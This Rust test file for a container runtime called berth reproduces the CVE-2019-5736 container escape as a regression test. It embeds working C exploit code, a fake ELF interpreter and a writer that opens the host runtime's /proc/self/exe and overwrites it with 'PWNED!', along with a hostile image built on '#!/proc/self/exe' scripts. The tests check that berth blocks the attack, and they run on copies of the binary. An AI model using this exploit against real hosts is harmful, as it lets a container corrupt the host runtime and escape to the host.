//! CVE-2019-5736: a container overwrites the runtime's binary on the host through
//! `/proc/self/exe`.
//!
//! The real attack, as Dragon Sector wrote it against runc: the image's entry point (or the
//! program given to `exec`) is a script whose interpreter is `#!/proc/self/exe`. The runtime
//! process that execs it still *is* the runtime at that moment, so the kernel runs the
//! runtime's own binary again, inside the container, and loads that binary's ELF
//! interpreter (`/lib64/ld-linux-x86-64.so.2`) from the image: attacker code runs in a
//! process whose `/proc/self/exe` is the host binary. It keeps an `O_PATH` fd of it, execs
//! another program (so the binary is no longer being executed by this process), waits for
//! the runtime to exit (`ETXTBSY` until then) and writes through `/proc/self/fd/N`.
//!
//! Non-dumpability does not stop this: the attacker's code runs *in* the runtime's own
//! process, and a process may always open its own `/proc/self/exe`. What stops it is that
//! berth never execs container content from a process whose executable is the writable
//! host file: `src/exeseal.rs` re-executes `create`, `run` and `exec` from a read-only
//! overlayfs view of the binary (or a sealed memfd copy) first.
//!
//! The unsafe variant: a naive runtime (a small dynamically linked C program that chroots
//! into the same image and execs its entry point) has its binary overwritten by the same
//! image, which shows the attack and the check work. All of it runs on copies.
//!
//! berth is linked statically, so the kernel loads no ELF interpreter when it runs berth's
//! binary: the image's `ld-linux-x86-64.so.2` never runs (the tests check it stays silent).
//! The attack then takes the other road to the same file: the berth that `#!/proc/self/exe`
//! started inside the container is kept waiting (its arguments come from the script line
//! and the container's process: `update ID --resources /fifo`, and nobody writes to the
//! fifo yet), and a second process of the container opens its `/proc/PID/exe`, lets it go
//! on, and writes through that fd once the binary is no longer executed.
//!
//! `/proc/<pid>/exe` of a berth process opened from another process of the container
//! (the non-dumpable protection, and CAP_SYS_PTRACE) is tested in `exec.rs`.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use serde_json::json;

use crate::common::{Env, Out};
use crate::security_support::{
    HostState, berth_bin, berth_copy, install, poll, probe, static_probe,
};

/// The image's "ELF interpreter": libc-free, as it runs before anything is set up. It
/// keeps an fd of `/proc/self/exe` (no close-on-exec), says what it points to, and execs
/// `/bin/writer N`.
const INTERP: &str = r#"
typedef unsigned long u64;
static long sys(u64 nr, u64 a, u64 b, u64 c) {
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}
static void say(const char *s, long n) { sys(1, 1, (u64)s, n < 0 ? 0 : n); }
static long len(const char *s) { long n = 0; while (s[n]) n++; return n; }
void entry(void) {
	char link[512];
	long fd = sys(2, (u64)"/proc/self/exe", 010000000 /* O_PATH */, 0);
	long n = sys(89, (u64)"/proc/self/exe", (u64)link, sizeof link - 1);
	say("interp: exe=", 12); say(link, n); say("\n", 1);
	if (fd < 0 || fd > 9) { say("interp: no fd\n", 14); sys(60, 1, 0, 0); }
	char num[2] = { (char)('0' + fd), 0 };
	char *argv[] = { "/bin/writer", num, 0 };
	char *envp[] = { 0 };
	sys(59, (u64)"/bin/writer", (u64)argv, (u64)envp);
	say("interp: exec writer failed\n", len("interp: exec writer failed\n"));
	sys(60, 1, 0, 0);
}
__asm__(".globl _start\n_start:\n\tand $-16, %rsp\n\tcall entry\n\thlt\n");
"#;

/// `writer N` opens `/proc/self/fd/N` for writing, retrying while the file is still being
/// executed (ETXTBSY: the runtime has not exited yet), and writes a marker over its first
/// bytes. `writer FIFO` first finds the berth that reads FIFO (`update … --resources FIFO`),
/// keeps an `O_PATH` fd of its `/proc/PID/exe`, says what it points to, and opens FIFO for
/// writing, which lets that berth go on and exit.
const WRITER: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
/* The pid of a process whose argv[1] is "update" and one of whose arguments is FIFO. */
static int reader_of(const char *fifo) {
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = 0;
	while (d && (e = readdir(d)) && !found) {
		int pid = atoi(e->d_name);
		if (pid <= 0 || pid == getpid()) continue;
		char p[64], buf[4096];
		snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
		int f = open(p, O_RDONLY);
		if (f < 0) continue;
		ssize_t n = read(f, buf, sizeof buf - 1);
		close(f);
		if (n <= 0) continue;
		buf[n] = 0;
		char *arg = buf, *end = buf + n;
		int i = 0, update = 0, names = 0;
		for (; arg < end; arg += strlen(arg) + 1, i++) {
			if (i == 1 && !strcmp(arg, "update")) update = 1;
			if (!strcmp(arg, fifo)) names = 1;
		}
		if (update && names) found = pid;
	}
	if (d) closedir(d);
	return found;
}
int main(int argc, char **argv) {
	char p[64];
	int fd = 3;
	if (argc > 1 && argv[1][0] == '/') {
		int pid = 0;
		for (int i = 0; i < 400 && !pid; i++) {
			pid = reader_of(argv[1]);
			if (!pid) usleep(25000);
		}
		if (!pid) { printf("writer: no process reads %s\n", argv[1]); return 0; }
		char link[512] = "";
		snprintf(p, sizeof p, "/proc/%d/exe", pid);
		fd = open(p, O_PATH);
		ssize_t n = readlink(p, link, sizeof link - 1);
		if (n > 0) link[n] = 0;
		printf("attack: exe=%s\n", link);
		fflush(stdout);
		if (fd < 0) { printf("writer: open %s: %s\n", p, strerror(errno)); return 0; }
		int w = open(argv[1], O_WRONLY);
		if (w >= 0) close(w);
	} else if (argc > 1) {
		fd = atoi(argv[1]);
	}
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	for (int i = 0; i < 400; i++) {
		int w = open(p, O_WRONLY);
		if (w < 0 && errno == ETXTBSY) { usleep(25000); continue; }
		if (w < 0) { printf("writer: open: %s\n", strerror(errno)); return 0; }
		ssize_t r = pwrite(w, "PWNED!", 6, 0);
		if (r < 0) printf("writer: write: %s\n", strerror(errno));
		else printf("writer: wrote %zd bytes\n", r);
		return 0;
	}
	printf("writer: ETXTBSY for 10 s\n");
	return 0;
}
"#;

/// A runtime without the protection: makes a mount namespace, mounts proc in the image,
/// chroots into it and execs the entry point. Dynamically linked, as runc was.
const NAIVE: &str = r#"
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <unistd.h>
int main(int argc, char **argv) {
	char p[4096];
	if (argc < 3) return 2;
	snprintf(p, sizeof p, "%s/proc", argv[1]);
	if (unshare(CLONE_NEWNS) || mount(0, "/", 0, MS_REC | MS_PRIVATE, 0) ||
	    mount("proc", p, "proc", 0, 0) || chroot(argv[1]) || chdir("/")) {
		perror("naive");
		return 1;
	}
	execv(argv[2], argv + 2);
	perror("naive: exec");
	return 1;
}
"#;

struct Probes {
    interp: std::path::PathBuf,
    writer: std::path::PathBuf,
}

fn probes() -> Option<Probes> {
    let interp = probe(
        "cve-2019-5736-interp",
        INTERP,
        // Position-independent, so it loads wherever the kernel puts an interpreter.
        &["-static-pie", "-nostdlib", "-fPIE", "-fno-stack-protector"],
    )?;
    let writer = static_probe("cve-2019-5736-writer", WRITER)?;
    Some(Probes { interp, writer })
}

/// The hostile image: `/bin/evil` is `#!/proc/self/exe`, and the dynamic loader every
/// glibc program asks for is the attacker's (for the naive runtime, which is dynamically
/// linked). `/bin/evil-update` is `#!/proc/self/exe update`: a static berth run by it
/// waits on `/fifo` when given `--resources /fifo`.
fn hostile_image(p: &Probes, rootfs: &Path) {
    install(&p.interp, rootfs, "lib64/ld-linux-x86-64.so.2");
    install(&p.writer, rootfs, "bin/writer");
    for (name, line) in [
        ("evil", "#!/proc/self/exe\n"),
        ("evil-update", "#!/proc/self/exe update\n"),
    ] {
        fs::write(rootfs.join("bin").join(name), line).unwrap();
        fs::set_permissions(
            rootfs.join("bin").join(name),
            fs::Permissions::from_mode(0o755),
        )
        .unwrap();
    }
    nix::unistd::mkfifo(
        &rootfs.join("fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
}

/// The container's process: the script whose interpreter is `/proc/self/exe`.
const EVIL: [&str; 3] = ["/bin/evil-update", "--resources", "/fifo"];

/// What the writer reported, once it has.
fn writer_said(out: &Out) -> String {
    poll(Duration::from_secs(15), || {
        let s = out.stdout_now();
        s.lines().any(|l| l.starts_with("writer:")).then_some(s)
    })
    .unwrap_or_else(|| panic!("the attack's writer never reported\n{out}"))
}

#[test]
fn proc_self_exe_overwrite_is_caught_against_a_naive_runtime() {
    let Some(t) = Env::new("sec_5736_naive") else {
        return;
    };
    let Some(p) = probes() else { return };
    let Some(naive) = probe("naive-runtime", NAIVE, &[]) else {
        return;
    };
    let victim = t.dir.join("naive-copy");
    fs::copy(&naive, &victim).unwrap();
    let b = t.bundle_own_rootfs(|r| hostile_image(&p, r), |_| {});
    let host = HostState::new(&t, &[&victim]);
    let out = std::process::Command::new(&victim)
        .arg(b.dir.join("rootfs"))
        .arg("/bin/evil")
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    let changes = host.assert_caught("a runtime that execs the entry point from its own binary");
    assert!(
        said.contains("writer: wrote 6 bytes"),
        "{said}\n{changes:?}"
    );
    assert!(fs::read(&victim).unwrap().starts_with(b"PWNED!"), "{said}");
}

#[test]
fn proc_self_exe_overwrite_from_the_init() {
    let Some(t) = Env::new("sec_5736_init") else {
        return;
    };
    let Some(p) = probes() else { return };
    let copy = berth_copy(&t);
    for how in ["run -d", "create + start"] {
        // No pid namespace: the writer must outlive the init it attacks.
        let b = t.bundle_own_rootfs(
            |r| hostile_image(&p, r),
            |c| {
                c["process"]["args"] = json!(EVIL);
                let ns = c["linux"]["namespaces"].as_array_mut().unwrap();
                ns.retain(|n| n["type"] != "pid");
            },
        );
        let host = HostState::new(&t, &[]);
        let id = t.id("init");
        let out = if how == "run -d" {
            berth_bin(&t, &copy, &["run", "-d", "--bundle", b.path(), &id])
        } else {
            let created = berth_bin(&t, &copy, &["create", "--bundle", b.path(), &id]);
            created.ok();
            berth_bin(&t, &copy, &["start", &id]).ok();
            created
        };
        out.ok();
        let w = berth_bin(&t, &copy, &["exec", "-d", &id, "/bin/writer", "/fifo"]);
        w.ok();
        let said = writer_said(&w);
        // The attacker held berth's exe, the binary the init's program was run with…
        assert!(said.contains("attack: exe="), "{how}: {said}");
        // …and could not write to it; the image's loader never ran.
        assert!(!said.contains("writer: wrote"), "{how}: {said}");
        assert!(!out.stdout_now().contains("interp:"), "{how}: {out}");
        host.assert_same(&format!("{how}: {said}"));
        t.berth(&["delete", "--force", &id]);
    }
}

#[test]
fn proc_self_exe_overwrite_from_an_exec() {
    let Some(t) = Env::new("sec_5736_exec") else {
        return;
    };
    let Some(p) = probes() else { return };
    let copy = berth_copy(&t);
    let b = t.bundle_own_rootfs(
        |r| hostile_image(&p, r),
        |c| c["process"]["args"] = json!(["sleep", "1000"]),
    );
    let id = t.id("exec");
    berth_bin(&t, &copy, &["run", "-d", "--bundle", b.path(), &id]).ok();
    let host = HostState::new(&t, &[]);
    // Detached, as `docker exec -d`: no berth process is left once the process runs, so
    // only the protection stands between the writer and the binary.
    let mut args = vec!["exec", "-d", &id];
    args.extend(EVIL);
    let out = berth_bin(&t, &copy, &args);
    out.ok();
    let w = berth_bin(&t, &copy, &["exec", "-d", &id, "/bin/writer", "/fifo"]);
    w.ok();
    let said = writer_said(&w);
    assert!(said.contains("attack: exe="), "{said}");
    assert!(!said.contains("writer: wrote"), "{said}");
    assert!(!out.stdout_now().contains("interp:"), "{out}");
    host.assert_same(&said);
}
